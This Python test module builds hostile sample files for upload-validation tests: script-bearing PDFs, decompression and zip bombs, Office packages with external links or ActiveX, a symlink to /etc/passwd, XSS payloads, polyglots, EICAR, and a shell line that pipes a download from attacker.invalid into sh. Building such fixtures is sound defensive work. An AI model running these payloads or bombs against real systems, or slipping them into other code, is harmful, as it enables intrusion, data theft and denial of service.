"""Byte builders for the attacks the outside testers found that documents.py and builders.py do
not already make: PDF actions one rule at a time, Office packages with unsafe members or
outside relationships, a PowerPoint, polyglots, scripts and programs under other names, and
the files offered as a seal certificate."""

from __future__ import annotations

import io
import warnings
import zipfile
import zlib

from tests.hostile import builders as b
from tests.hostile import documents as d

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"


# -- PDF: each breaks exactly one rule ----------------------------------------------------------


def pdf_with(catalog_extra: bytes = b"", *objects: bytes) -> bytes:
    """The evidence-style PDF (objects 1 to 5) with more objects from 6 on."""
    return d.simple_pdf(catalog_extra, *objects)


def pdf_named_javascript(name: bytes = b"/JavaScript", key: bytes = b"/JS") -> bytes:
    """A document-level script in the name tree: runs on opening without an OpenAction."""
    return pdf_with(
        b"/Names << " + name + b" << /Names [(init) 6 0 R] >> >> ",
        b"<< /S " + name + b" " + key + b" (app.alert\\(1\\)) >>",
    )


def pdf_script_in_object_stream() -> bytes:
    """The script dictionary lives only inside a compressed object stream."""
    hidden = b"7 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    return pdf_with(
        b"/Names << /JavaScript << /Names [(init) 7 0 R] >> >> ",
        d.stream(b"/Type /ObjStm /N 1 /First 4", hidden),
    )


def pdf_action(action: bytes) -> bytes:
    """An action object nothing opens automatically (a link would run it on a click)."""
    return pdf_with(b"", b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A " + action + b" >>")


def pdf_decompression_bomb(megabytes: int = 300) -> bytes:
    """One content stream of zeros: about 300 KB on disk that inflate to `megabytes` MB."""
    packer = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    packed = b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()
    body = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(packed), packed)
    return pdf_with(b"", body)


def pdf_without_eof() -> bytes:
    whole = d.simple_pdf()
    return whole[: whole.rindex(b"%%EOF")]


# -- Office packages --------------------------------------------------------------------------


def relationships(*entries: tuple[str, str, str]) -> bytes:
    """A .rels part: each entry is (type after the REL prefix, target, target mode)."""
    body = "".join(
        f'<Relationship Id="rId{n}" Type="{REL}{kind}" Target="{target}" TargetMode="{mode}"/>'
        for n, (kind, target, mode) in enumerate(entries, 90)
    )
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{RELS_NS}">{body}</Relationships>'
    ).encode()


def docx_outside(kind: str, target: str, part: str = "word/_rels/settings.xml.rels") -> bytes:
    """A document with one relationship to a file outside the package."""
    return b.rezip(b.docx(), extra={part: relationships((kind, target, "External"))})


def docx_with_relationship_added(kind: str, target: str) -> bytes:
    """The document's own relationships plus one external: Word follows it when opening."""

    def add(xml: bytes) -> bytes:
        extra = relationships((kind, target, "External"))
        inner = extra.split(b">", 2)[2].rsplit(b"</Relationships>", 1)[0]
        return xml.replace(b"</Relationships>", inner + b"</Relationships>")

    return b.rezip(b.docx(), {"word/_rels/document.xml.rels": add})


def xlsx_external_link() -> bytes:
    link = (
        b'<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.'
        b'openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId90" xmlns:r="'
        + REL.encode()
        + b'"/></externalLink>'
    )
    rels = relationships(
        ("externalLinkPath", "file://///attacker.invalid/share/book.xlsx", "External")
    )
    return b.rezip(
        b.xlsx(),
        extra={
            "xl/externalLinks/externalLink1.xml": link,
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels,
        },
    )


def package_with_member(package: bytes, name: str, content: bytes = b"escaped") -> bytes:
    """The package with one more member, its name written exactly as given."""
    return b.rezip(package, extra={name: content})


def package_with_duplicate(package: bytes, name: str, again: str) -> bytes:
    """The package with a second member called `again` (same as `name`, up to case)."""
    output = io.BytesIO(package)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate, which is the point
        with zipfile.ZipFile(output, "a") as archive:
            archive.writestr(again, zipfile.ZipFile(io.BytesIO(package)).read(name))
    return output.getvalue()


def package_with_symlink(package: bytes, name: str = "word/media/image9.png") -> bytes:
    output = io.BytesIO(package)
    info = zipfile.ZipInfo(name)
    info.create_system = 3  # Unix, so the mode bits below are read
    info.external_attr = (0o120777 << 16) | 0x20
    with zipfile.ZipFile(output, "a") as archive:
        archive.writestr(info, b"/etc/passwd")
    return output.getvalue()


def docx_activex() -> bytes:
    control = (
        b'<?xml version="1.0" encoding="UTF-8"?><ax:ocx ax:classid="{8BD21D40-EC42-11CE-9E0D-'
        b'00AA006002F3}" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
    )

    def declare(xml: bytes) -> bytes:
        override = (
            b'<Override PartName="/word/activeX/activeX1.xml" '
            b'ContentType="application/vnd.ms-office.activeX+xml"/>'
        )
        return xml.replace(b"</Types>", override + b"</Types>")

    return b.rezip(
        b.docx(),
        {"[Content_Types].xml": declare},
        extra={"word/activeX/activeX1.xml": control},
    )


def docx_zip_bomb_total(members: int = 3, megabytes: int = 25) -> bytes:
    """Several parts that are each small on disk but together inflate past 50 MB."""
    extra = {f"word/media/zeros{n}.bin": bytes(megabytes * 1024 * 1024) for n in range(members)}
    return b.rezip(b.docx(), extra=extra)


def pptx() -> bytes:
    types = (
        b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
        b'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
        b'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="'
        b'application/xml"/><Override PartName="/ppt/presentation.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>'
    )
    root = relationships(("officeDocument", "ppt/presentation.xml", "Internal"))
    presentation = (
        b'<?xml version="1.0" encoding="UTF-8"?><p:presentation xmlns:p="http://schemas.'
        b'openxmlformats.org/presentationml/2006/main"/>'
    )
    return b.zip_of(
        {
            "[Content_Types].xml": types,
            "_rels/.rels": root,
            "ppt/presentation.xml": presentation,
        }
    )


# -- text, scripts, programs, certificates -----------------------------------------------------

HTML = b"<!DOCTYPE html><html><body><script>fetch('/admin').then(r=>r.text())</script></body>"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">'
    b"<script>1</script></svg>"
)
XHTML = (
    b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>'
    b"<script>alert(document.cookie)</script></body></html>"
)
SHELL = b"#!/bin/sh\ncurl -s http://attacker.invalid/x | sh\n"


def eicar_inside(prefix: bytes = b"") -> bytes:
    return prefix + EICAR + b"\n"


def csv_named_xlsx() -> bytes:
    return b.valid_org_csv()


def binary_named_csv() -> bytes:
    return bytes(range(256)) * 8


def pem_certificate() -> bytes:
    from cryptography.hazmat.primitives.serialization import Encoding, pkcs12

    from tests.fixtures.certificates import make_pkcs12

    _, certificate, _ = pkcs12.load_key_and_certificates(make_pkcs12(), b"seal-password-1")
    return certificate.public_bytes(Encoding.PEM)


def garbage_der() -> bytes:
    """A DER sequence header over random-looking bytes: starts like PKCS#12, is not one."""
    body = bytes((n * 37 + 11) % 256 for n in range(600))
    return b"\x30\x82" + len(body).to_bytes(2, "big") + body


def pkcs12_with_other_password() -> bytes:
    from tests.fixtures.certificates import make_pkcs12

    return make_pkcs12("not-the-typed-password")


def png_zip_polyglot() -> bytes:
    return d.image("PNG", (40, 40), noise=True) + d.plain_zip()
